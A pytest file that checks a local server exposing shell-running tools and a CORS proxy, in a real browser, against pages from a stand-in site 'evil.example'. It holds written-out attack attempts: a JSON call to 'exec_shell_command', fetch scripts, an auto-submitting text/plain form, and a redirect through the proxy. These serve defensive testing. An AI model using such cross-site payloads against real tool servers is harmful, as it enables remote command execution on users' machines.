"""A page of another site gets nothing from a server with tools and the proxy, in a real browser."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx2
import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route
from tests.page.support import Window
from tests.server.serving import serving, serving_app

from headstart.config import ToolsConfig
from headstart.server.extra_routes import Extras

CALL = '{"tool": "exec_shell_command", "params": {"command": "touch %s"}}'
# what the proxy would bring into the server's origin
SCRIPT = """<script>
fetch("/tools", {method: "POST", headers: {"Content-Type": "application/json"}, body: CALL})
  .then((response) => document.title = "tools " + response.status)
</script>"""


@contextmanager
def another_site(pages: dict[str, str]) -> Iterator[str]:
    """Serves pages as http://evil.example:PORT."""
    page = Route("/{path:path}", lambda request: HTMLResponse(pages.get(request.url.path, "")))
    with serving_app(Starlette(routes=[page])) as address:
        yield address.replace("127.0.0.1", "evil.example")


@pytest.fixture
def victim(monkeypatch: pytest.MonkeyPatch) -> Iterator[httpx2.Client]:
    """A server with everything on that a page of its own may use."""
    with serving(extras=Extras.of(ToolsConfig(tools="all", ui_mcp_proxy=True), {})) as client:
        yield client


def test_a_navigation_to_the_proxy_runs_no_script(window: Window, victim: httpx2.Client, tmp_path):
    window.expected = ("403",)
    mark = tmp_path / "owned"
    pages = {"/x.html": SCRIPT.replace("CALL", repr(CALL % mark))}
    with another_site(pages) as evil:
        page = window.page
        pages["/"] = f"<script>location = '{victim.base_url}/cors-proxy?url={evil}/x.html'</script>"
        page.goto(evil)
        page.get_by_text("Sec-Fetch-Site").wait_for()
        page.wait_for_timeout(300)
        assert not page.title().startswith("tools")
        assert not mark.exists()


@pytest.mark.parametrize("kind", ["text/plain", "application/json"])
def test_a_script_elsewhere_calls_no_tool_and_reads_nothing(
    window: Window, victim: httpx2.Client, tmp_path: Path, kind: str
) -> None:
    window.expected = ("403", "415", "CORS", "Failed to load", "ERR_FAILED")
    mark = tmp_path / "owned"
    with another_site({"/": "<p>here</p>"}) as evil:
        page = window.page
        page.goto(evil)
        said = page.evaluate(
            """async ([url, body, kind]) => {
              const headers = {"Content-Type": kind};
              const ask = (path, options) => fetch(url + path, options)
                .then(async (response) => response.type + await response.text(), () => "refused");
              const simple = {mode: "no-cors", method: "POST", body};
              return [await ask("/tools", {method: "POST", body, headers}),
                await ask("/tools", simple), await ask("/props"), await ask("/tools")];
            }""",
            [str(victim.base_url).rstrip("/"), CALL % mark, kind],
        )
        assert said == ["refused", "opaque", "refused", "refused"]
        assert not mark.exists()


def test_an_image_and_a_form_elsewhere_change_nothing(
    window: Window, victim: httpx2.Client, tmp_path: Path
) -> None:
    window.expected = ("403", "415", "ERR_BLOCKED", "Failed to load")
    mark = tmp_path / "owned"
    form = (
        f'<img src="{victim.base_url}/slots"><form method="post" enctype="text/plain" '
        f'action="{victim.base_url}/tools"><input name=\'{CALL % mark}\' value=""></form>'
        "<script>document.forms[0].submit()</script>"
    )
    with another_site({"/": form}) as evil:
        page = window.page
        page.goto(evil)
        page.get_by_text("error").wait_for()
        assert not mark.exists()


def test_our_own_page_does_call_them(victim: httpx2.Client, tmp_path: Path) -> None:
    """Else the tests above would show nothing."""
    mark = tmp_path / "owned"
    own = {"Sec-Fetch-Site": "same-origin", "Content-Type": "application/json"}
    answer = victim.post("/tools", content=CALL % mark, headers=own)
    assert (answer.status_code, mark.exists()) == (200, True)
